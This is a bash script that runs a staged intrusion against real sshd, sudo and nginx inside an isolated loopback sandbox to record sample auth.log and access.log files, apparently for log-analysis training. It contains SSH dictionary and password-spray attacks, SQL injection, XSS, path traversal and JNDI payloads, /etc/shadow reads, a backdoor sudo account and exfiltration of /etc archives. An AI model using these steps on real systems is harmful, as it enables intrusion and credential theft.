#!/bin/bash
# record.sh - records the sample incident of this folder: auth.log and access.log.
#
# Real daemons (rsyslogd, sshd, sudo, su, useradd, nginx) are attacked over loopback addresses, and what they
# write is kept as they wrote it. Nothing is invented, nothing is edited.
#
# Everything happens in a machine of its own made of namespaces (../machine.sh): the users of the story never
# exist outside it, and when this script ends all it started ends with it. Takes about three minutes.
#
# Needs root and: openssh-server openssh-client sshpass sudo nginx-light rsyslog curl iproute2 (Debian 12).
# usage: record.sh [FOLDER]      FOLDER: where auth.log and access.log go; default: beside this script
set -eu

if [ "${1:-}" = --help ]; then sed -n '2,12s/^# \{0,1\}//p' "$0"; exit 0; fi

if [ "${RECORD_INSIDE:-}" != yes ]; then
    folder=$(cd "${1:-$(dirname "$0")}" && pwd)
    . "$(dirname "$0")/../machine.sh"
    packages='openssh-server sshpass sudo nginx-light rsyslog curl iproute2'
    needs sshd sshpass sudo nginx rsyslogd curl ip useradd
    record "$0" auth.log access.log
    mv "$recorded/auth.log" "$recorded/access.log" "$folder"
    chmod 644 "$folder/auth.log" "$folder/access.log"
    wc -lc "$folder/auth.log" "$folder/access.log"
    exit 0
fi

# ---------------------------------------------------------------------------------- the machine web1
. /proc/self/fd/6
make_machine web1

# The users that were there before the story begins (before logging begins, too).
victim_password=sunshine1
bob_password='correct-horse-41'
alice_password='river-otter-88'
for u in alice bob deploy; do useradd -m -s /bin/bash "$u"; done
usermod -aG sudo alice; usermod -aG sudo deploy
printf 'alice:%s\nbob:%s\ndeploy:%s\n' "$alice_password" "$bob_password" "$victim_password" | chpasswd
add_key alice

# rsyslogd, as Ubuntu and older Debian have it: traditional stamps, repeated messages folded.
start_rsyslogd '$ActionFileDefaultTemplate RSYSLOG_TraditionalFileFormat
$RepeatedMsgReduction on'

# nginx with a small site.
mkdir -p /var/www/html/img /var/www/html/private /var/log/nginx
for p in index about products contact news; do
    echo "<!doctype html><title>$p</title><link rel=stylesheet href=/style.css><h1>$p</h1>" >/var/www/html/$p.html
done
echo 'body{font:16px sans-serif}' >/var/www/html/style.css
head -c 3000 /dev/urandom >/var/www/html/img/logo.png
echo 'User-agent: *' >/var/www/html/robots.txt
cp /var/www/html/img/logo.png /var/www/html/favicon.ico
echo 'admin:$apr1$x$fGrKHy4w7mhpyo2pZVJMI/' >/etc/nginx/htpasswd
cat >/etc/nginx/nginx.conf <<'CONF'
user www-data;
worker_processes 1;
pid /run/nginx.pid;
error_log /dev/null;
events { worker_connections 64; }
http {
    include /etc/nginx/mime.types;
    access_log /var/log/nginx/access.log combined;
    server {
        listen 127.0.0.1:80;
        server_name web1;
        root /var/www/html;
        location /admin/ { auth_basic "admin"; auth_basic_user_file /etc/nginx/htpasswd; }
        location /private/ { deny all; }
        location = /api/report { return 500; }
    }
}
CONF
nginx -g 'daemon off;' & nginx_pid=$!

start_sshd

# ---------------------------------------------------------------------------------- who takes part
alice=127.10.0.5        # administrator, with a key
bob=127.10.0.23         # user, with a password
scanner=127.66.6.66     # dictionary attack on deploy, web scan, break-in
second=127.66.6.67      # comes back with the account that the break-in made
sprayer=127.77.1.20     # one password, many users
fumbler=127.88.0.3      # four wrong passwords, 20 s apart: no attack
visitors=(127.20.3.11 127.20.7.42 127.21.0.9 127.22.8.130)
get() {                 # get ADDRESS AGENT REFERER PATH...
    local from=$1 agent=$2 referer=$3 p; shift 3
    for p in "$@"; do
        curl -s -o /dev/null --path-as-is -g --interface "$from" -A "$agent" ${referer:+-e "$referer"} "http://127.0.0.1$p" || true
    done
}
firefox='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
safari='Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1'

ordinary_web() {        # people who read pages, until stopped
    local pages=(index about products contact news) i=0 v page agent
    while :; do
        v=${visitors[$((RANDOM % ${#visitors[@]}))]}
        page=${pages[$((RANDOM % ${#pages[@]}))]}
        agent=$firefox; [ $((i % 3)) = 0 ] && agent=$safari
        get "$v" "$agent" '' "/$page.html"
        get "$v" "$agent" "http://web1/$page.html" /style.css /img/logo.png
        [ $((i % 6)) = 0 ] && get "$v" "$agent" '' /favicon.ico
        [ $((i % 17)) = 5 ] && get "$v" "$agent" "http://web1/news.html" /old-news.html     # a dead link now and then
        i=$((i + 1))
        sleep "1.$((RANDOM % 9))"
    done
}

dictionary() {          # words until one opens the door: six to a connection, as the server allows
    local words=(123456 password 12345678 qwerty 123456789 letmein 1234567 football iloveyou admin123 welcome monkey
        login abc123 starwars dragon passw0rd master hello freedom whatever qazwsx trustno1 deploy deploy1 deploy123
        deploy2024 root toor changeme secret summer sunshine "$victim_password")
    printf '%s\n' "${words[@]}" >/mnt/words
    cat >/mnt/askpass <<'ASK'
#!/bin/bash
head -n 1 /mnt/words; sed -i 1d /mnt/words
ASK
    chmod 700 /mnt/askpass
    while [ -s /mnt/words ]; do
        SSH_ASKPASS=/mnt/askpass SSH_ASKPASS_REQUIRE=force ssh "${by_password[@]}" -o NumberOfPasswordPrompts=6 \
            -b $scanner deploy@127.0.0.1 id </dev/null >/dev/null 2>&1 && return 0
    done
}

spray() {               # one password for everyone
    local u
    sleep 20                                            # the dictionary is alone first: its repeats are folded
    for u in root admin test oracle postgres mysql git jenkins ubuntu ec2-user pi ftp www-data backup nagios tomcat \
        alice bob deploy guest support user1 minecraft hadoop; do
        once $sprayer "$u" 'Winter2026!' || true
        sleep "0.$((RANDOM % 9 + 1))"
    done
}

fumble() {
    local w
    sleep 22
    for w in rosebud Rosebud rosebud1 ROSEBUD; do once $fumbler bob "$w" || true; sleep 18; done
}

web_scan() {
    local agent='Mozilla/5.0 zgrab/0.x'
    get $scanner "$agent" '' /.env /.git/config /.git/HEAD /.aws/credentials /.svn/entries /.DS_Store /.htaccess /.htpasswd \
        /wp-login.php /wp-admin/setup-config.php /xmlrpc.php /wp-content/plugins/revslider/readme.txt /administrator/index.php \
        /phpmyadmin/index.php /pma/ /mysql/admin/ /backup.zip /backup.tar.gz /db.sql /dump.sql /site.bak /config.php.bak \
        /web.config /server-status /actuator/env /actuator/health /console/ /solr/admin/info/system /manager/html \
        /cgi-bin/test.cgi /shell.php /c99.php /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /owa/auth/logon.aspx \
        /boaform/admin/formLogin /HNAP1 /api/v1/users /login.action /struts2-showcase/index.action
    sleep 1
    agent='sqlmap/1.7.2#stable (https://sqlmap.org)'
    get $scanner "$agent" '' "/products.html?id=1'" '/products.html?id=1%27%20OR%20%271%27=%271' \
        '/products.html?id=1%20UNION%20SELECT%20NULL,NULL,NULL--' '/products.html?id=-1+union+all+select+1,group_concat(table_name),3+from+information_schema.tables--' \
        '/products.html?id=1;DROP%20TABLE%20users--' '/news.html?q=1%20AND%20SLEEP(5)'
    agent='Mozilla/5.0 zgrab/0.x'
    get $scanner "$agent" '' '/contact.html?name=%3Cscript%3Ealert(1)%3C/script%3E' '/news.html?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E' \
        '/index.html?f=../../../../etc/passwd' '/../../../../etc/passwd' '/index.html?x=${jndi:ldap://127.66.6.66/a}'
    local i
    for i in 1 2 3 4 5 6 7 8; do
        curl -s -o /dev/null --interface $scanner -A "$agent" -u "admin:admin$i" http://127.0.0.1/admin/ || true
    done
    get $scanner "$agent" '' /private/ /private/keys /private/db /private/backup /private/logs /private/old
    for i in 1 2 3 4 5 6; do get $scanner "$agent" '' "/api/report"; done
    for i in 1 2 3 4 5 6; do curl -s -o /dev/null --interface $scanner -A "$agent" -H 'Host: a b' http://127.0.0.1/ || true; done
}

# ---------------------------------------------------------------------------------- what happens
say 'an ordinary morning'
ordinary_web & web_pid=$!
sleep 3
by_key $alice alice uptime
once $bob bob 'corect-horse-41' || true
once $bob bob "$bob_password" 'ls -l' || true
printf 'sudo /usr/sbin/nginx -t\n%s\nexit\n' "$alice_password" | typed |
    timeout 60 ssh -tt "${ssh_options[@]}" -i /mnt/keys/alice -b $alice alice@127.0.0.1 >/mnt/session.0 2>&1 || true

say 'the siege: web scan, spray and dictionary at once'
fumble & fumble_pid=$!
spray & spray_pid=$!
web_scan & scan_pid=$!
dictionary
say 'the door is open'
wait $scan_pid

{ typed <<TYPED
id
cat /etc/shadow
su - root
toor
#4
su - alice
alice
#4
sudo -l
$victim_password
sudo cat /etc/shadow
sudo useradd -m -s /bin/bash -G sudo support
sudo passwd support
Qwerty99
Qwerty99
echo '<h1>ok</h1>' > /tmp/x
sudo cp /tmp/x /var/www/html/img/cache.html
exit
TYPED
} | timeout 60 sshpass -p "$victim_password" ssh -tt "${by_password[@]}" -b $scanner deploy@127.0.0.1 >/mnt/session.1 2>&1 || true

say 'back with the new account'
sleep 2
get $scanner 'Mozilla/5.0 zgrab/0.x' '' /img/cache.html
{ typed <<TYPED
sudo whoami
Qwerty99
sudo tar czf /tmp/etc.tgz /etc/ssh /etc/passwd
sudo cp /tmp/etc.tgz /var/www/html/img/etc.tgz
exit
TYPED
} | timeout 60 sshpass -p Qwerty99 ssh -tt "${by_password[@]}" -b $second support@127.0.0.1 >/mnt/session.2 2>&1 || true
get $second 'curl/7.88.1' '' /img/etc.tgz

wait $spray_pid
wait $fumble_pid
say 'alice cleans up'
{ typed <<TYPED
sudo userdel -r support
$alice_password
sudo passwd -l deploy
sudo rm /var/www/html/img/cache.html /var/www/html/img/etc.tgz
exit
TYPED
} | timeout 60 ssh -tt "${ssh_options[@]}" -i /mnt/keys/alice -b $alice alice@127.0.0.1 >/mnt/session.3 2>&1 || true
get $scanner 'Mozilla/5.0 zgrab/0.x' '' /img/cache.html
once $second support Qwerty99 || true
sleep 3

kill $web_pid 2>/dev/null || true; wait $web_pid 2>/dev/null || true
kill $sshd_pid; wait $sshd_pid 2>/dev/null || true
kill -QUIT $nginx_pid; wait $nginx_pid 2>/dev/null || true
sleep 1
kill $rsyslogd_pid; wait $rsyslogd_pid 2>/dev/null || true
if [ -n "${RECORD_DEBUG:-}" ]; then cat -v /mnt/session.* >&2; fi
cat /var/log/auth.log >&8
cat /var/log/nginx/access.log >&9
say 'recorded'
